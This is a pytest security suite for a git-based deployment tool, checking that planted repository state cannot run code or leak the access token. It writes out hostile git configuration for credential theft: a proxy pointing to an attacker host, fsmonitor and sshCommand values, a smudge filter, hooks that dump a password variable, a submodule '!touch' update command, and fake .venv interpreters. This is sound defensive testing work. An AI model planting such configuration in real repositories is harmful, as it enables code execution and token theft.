"""The attacker is a repository, or a task that prepares the next start: nothing of theirs is run."""

import shutil
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from appliance.deploy import access, files, git, git_folder
from appliance.deploy.environment import Environment
from appliance.deploy.slots import Slot
from appliance.errors import DeploymentError, DeploymentRejected
from harness.sandbox.repo import GitRepo, make_repo
from tests.integration import deploying
from tests.integration.deploying import Rig
from tests.integration.private_git import PrivateHost, private_host

TOKEN = "canary-token"
#: A protection taken away, so that what it is for shows.
Mutant = Callable[[pytest.MonkeyPatch], None]


@pytest.fixture
def rig(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Rig]:
    with capture_logs() as events:
        fresh = Rig(tmp_path, events)
        deploying.isolate(fresh, monkeypatch)
        for name in ("no_proxy", "NO_PROXY"):
            monkeypatch.delenv(name, raising=False)
        yield fresh


@pytest.fixture
def repo(rig: Rig) -> GitRepo:
    return make_repo(rig.folder / "code.git", {"main.py": "one", ".gitattributes": "*.txt filter=evil\n"})


@pytest.fixture
def host(repo: GitRepo) -> Iterator[PrivateHost]:
    with private_host(repo, TOKEN) as listening:
        yield listening


@pytest.fixture
def elsewhere(rig: Rig) -> Iterator[PrivateHost]:
    """The attacker's host, which asks for a login and notes it."""
    with private_host(make_repo(rig.folder / "elsewhere.git", {"main.py": ""}), "x") as listening:
        yield listening


def nothing(_: pytest.MonkeyPatch) -> None:
    """Take nothing away."""


def git_within_reach(monkeypatch: pytest.MonkeyPatch) -> None:
    """Git's folder is where git has it by itself, and its configuration is believed."""
    monkeypatch.setattr(Slot, "git_dir", property(lambda slot: slot.folder / ".git"))
    configuration_believed(monkeypatch)


def configuration_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    """The configuration that a clone has once is believed ever after."""
    written = set()

    def write_once(git_dir: Path, url: str, code_path: str) -> None:
        if git_dir.parent.name.endswith(".new.worker") or git_dir not in written:
            written.add(git_dir)
            if not git_dir.parent.parent.joinpath("planted").exists():
                git_folder.write_configuration(git_dir, url, code_path)

    monkeypatch.setattr(git, "write_configuration", write_once)


def hooks_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """As before, and git is not told to leave hooks alone."""
    configuration_believed(monkeypatch)
    kept = tuple(pair for pair in access._CONFIG if pair[0] not in {"core.hooksPath", "core.fsmonitor"})
    monkeypatch.setattr(access, "_CONFIG", kept)


def _plant(rig: Rig, git_dir: Path, elsewhere: PrivateHost) -> None:
    """What a task would leave for the next start: each line gives the token away, or runs a program."""
    (rig.deployment / "planted").touch()
    for folder in ("hooks", "info"):
        (git_dir / folder).mkdir(parents=True, exist_ok=True)
    steal = f"printf '%s %s\\\\n' stolen \\\"$RUNQY_LOGIN_PASSWORD\\\" >> {rig.folder}/stolen"
    with (git_dir / "config").open("a") as config:
        config.write(
            f"[http]\n\tproxy = http://127.0.0.1:{elsewhere.port}\n"
            f'[core]\n\tfsmonitor = "{steal}"\n\tsshCommand = "{steal}"\n'
            f'[filter "evil"]\n\tsmudge = "{steal}; cat"\n'
        )
    (git_dir / "info" / "attributes").write_text("* filter=evil\n")
    for hook in ("post-checkout", "reference-transaction"):
        (git_dir / "hooks" / hook).write_text(f"#!/bin/sh\n{steal.replace(chr(92), '')}\n")
        (git_dir / "hooks" / hook).chmod(0o755)


def _stolen(rig: Rig) -> str:
    path = rig.folder / "stolen"
    return path.read_text() if path.exists() else ""


@pytest.mark.parametrize("where", ["the code's folder", "git's own folder"])
def test_configuration_that_a_task_planted_runs_nothing_and_gets_no_token(
    rig: Rig,
    host: PrivateHost,
    repo: GitRepo,
    elsewhere: PrivateHost,
    monkeypatch: pytest.MonkeyPatch,
    where: str,
) -> None:
    deploying.without_environment(monkeypatch)
    rig.deploy(host.url(), token=TOKEN)
    _plant(rig, rig.clone / ".git" if where == "the code's folder" else rig.git_dir, elsewhere)
    commit = repo.commit({"main.py": "two", "new.txt": "text"})

    assert rig.deploy(host.url(), token=TOKEN).commit == commit

    assert rig.text() == "two"
    assert elsewhere.requests == 0
    assert _stolen(rig) == ""


@pytest.mark.parametrize("mutant", [git_within_reach, configuration_believed])
def test_where_planted_configuration_is_believed_the_token_goes_to_the_attacker(
    rig: Rig,
    host: PrivateHost,
    repo: GitRepo,
    elsewhere: PrivateHost,
    monkeypatch: pytest.MonkeyPatch,
    mutant: Mutant,
) -> None:
    deploying.without_environment(monkeypatch)
    mutant(monkeypatch)
    rig.deploy(host.url(), token=TOKEN)
    _plant(rig, rig.clone / ".git" if mutant is git_within_reach else rig.git_dir, elsewhere)
    repo.commit({"main.py": "two"})

    # Git was told of a proxy, which the attacker is; a fetch asks it, with what it would tell the host.
    with suppress(DeploymentError):
        rig.deploy(host.url(), token=TOKEN)

    assert ("x-access-token", TOKEN) in elsewhere.asked


def test_what_runs_while_files_are_written_has_no_token_even_where_it_is_planted(
    rig: Rig, host: PrivateHost, repo: GitRepo, elsewhere: PrivateHost, monkeypatch: pytest.MonkeyPatch
) -> None:
    deploying.without_environment(monkeypatch)
    hooks_run(monkeypatch)
    rig.deploy(host.url(), token=TOKEN)
    _plant(rig, rig.git_dir, elsewhere)
    config = (rig.git_dir / "config").read_text()
    (rig.git_dir / "config").write_text(config.replace(f"proxy = http://127.0.0.1:{elsewhere.port}", ""))
    (rig.git_dir / "hooks" / "reference-transaction").unlink()
    repo.commit({"main.py": "two", "new.txt": "text"})

    rig.deploy(host.url(), token=TOKEN)

    said = [line.split() for line in _stolen(rig).splitlines()]
    assert ["stolen"] in said, "the filter and the hook ran, for the protections against that are off"
    assert ["stolen", TOKEN] not in said


def test_submodules_and_settings_of_git_lfs_lead_nowhere_with_a_token(
    rig: Rig, host: PrivateHost, repo: GitRepo, elsewhere: PrivateHost, monkeypatch: pytest.MonkeyPatch
) -> None:
    deploying.without_environment(monkeypatch)
    if lfs := shutil.which("git-lfs", path="/usr/bin:/usr/local/bin"):
        (rig.bin / "git-lfs").symlink_to(lfs)
    there, update = f"http://127.0.0.1:{elsewhere.port}", f"!touch {rig.folder}/stolen"
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 5\n"
    repo.commit(
        {
            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = {there}/x\n\tupdate = {update}\n',
            ".lfsconfig": f"[lfs]\n\turl = {there}/lfs\n",
            ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
            "model.bin": pointer,
        }
    )

    # Without Git LFS the pointer is deployed; with it, the repository's own host for contents wants a login.
    if lfs:
        with pytest.raises(DeploymentError):
            rig.deploy(host.url(), token=TOKEN)
        assert elsewhere.requests > 0
    else:
        rig.deploy(host.url(), token=TOKEN)

    assert elsewhere.asked == []
    assert _stolen(rig) == ""


def _interpreter(folder: Path, rig: Rig) -> None:
    """An interpreter that says it was run."""
    (folder / "bin").mkdir(parents=True)
    python = folder / "bin" / "python"
    python.write_text(f"#!/bin/sh\necho stolen >> {rig.folder}/stolen\n")
    python.chmod(0o755)


def _planted_folder(rig: Rig, repo: GitRepo) -> str:
    (rig.clone / ".venv").unlink()
    _interpreter(rig.clone / ".venv", rig)
    return "not a link"


def _planted_link(rig: Rig, repo: GitRepo) -> str:
    _interpreter(rig.folder / "outside", rig)
    (rig.clone / ".venv").unlink()
    (rig.clone / ".venv").symlink_to(rig.folder / "outside")
    return "a link to"


def _tracked_folder(rig: Rig, repo: GitRepo) -> str:
    repo.commit({".venv/bin/python": f"#!/bin/sh\necho stolen >> {rig.folder}/stolen\n"})
    return "the repository tracks .venv"


def _tracked_link(rig: Rig, repo: GitRepo) -> str:
    work = rig.folder / "work"
    _interpreter(rig.folder / "outside", rig)
    work.mkdir()
    (work / "main.py").write_text("")
    (work / ".venv").symlink_to(rig.folder / "outside")
    _push(repo, work)
    return "the repository tracks .venv"


def _push(repo: GitRepo, work: Path) -> None:
    clone = work.with_name("pushing")
    deploying.subprocess.run(["git", "clone", "--quiet", repo.url, clone], check=True)
    shutil.copytree(work, clone, symlinks=True, dirs_exist_ok=True)
    repo.commit_folder(clone, "a link")


@pytest.mark.parametrize("plant", [_planted_folder, _planted_link, _tracked_folder, _tracked_link])
def test_an_environment_that_the_worker_did_not_make_is_refused_and_never_run(
    rig: Rig, repo: GitRepo, monkeypatch: pytest.MonkeyPatch, plant: Callable[[Rig, GitRepo], str]
) -> None:
    deploying.with_uv(rig, monkeypatch)
    rig.deploy(repo.url)
    inside = {path: path.lstat().st_mtime_ns for path in rig.venv.rglob("*")}
    why = plant(rig, repo)

    with pytest.raises(DeploymentRejected, match=why):
        rig.deploy(repo.url)

    assert _stolen(rig) == ""
    assert {path: path.lstat().st_mtime_ns for path in rig.venv.rglob("*")} == inside


def test_an_environment_in_the_codes_folder_would_be_run(
    rig: Rig, repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    deploying.with_uv(rig, monkeypatch)
    monkeypatch.setattr(Slot, "venv_dir", property(lambda slot: slot.folder / ".venv"))
    monkeypatch.setattr(Environment, "link", lambda *_, **__: None)
    rig.deploy(repo.url)
    shutil.rmtree(rig.clone / ".venv")
    _interpreter(rig.clone / ".venv", rig)

    rig.deploy(repo.url)

    assert "stolen" in _stolen(rig)


def test_a_record_is_never_written_through_a_link(tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("kept")
    for name in ("record.json", "record.json.new"):
        (tmp_path / name).symlink_to(precious)

    files.write_json(tmp_path / "record.json", {"a": 1})

    assert precious.read_text() == "kept"
    assert files.read_json(tmp_path / "record.json") == {"a": 1}
    assert not (tmp_path / "record.json").is_symlink()
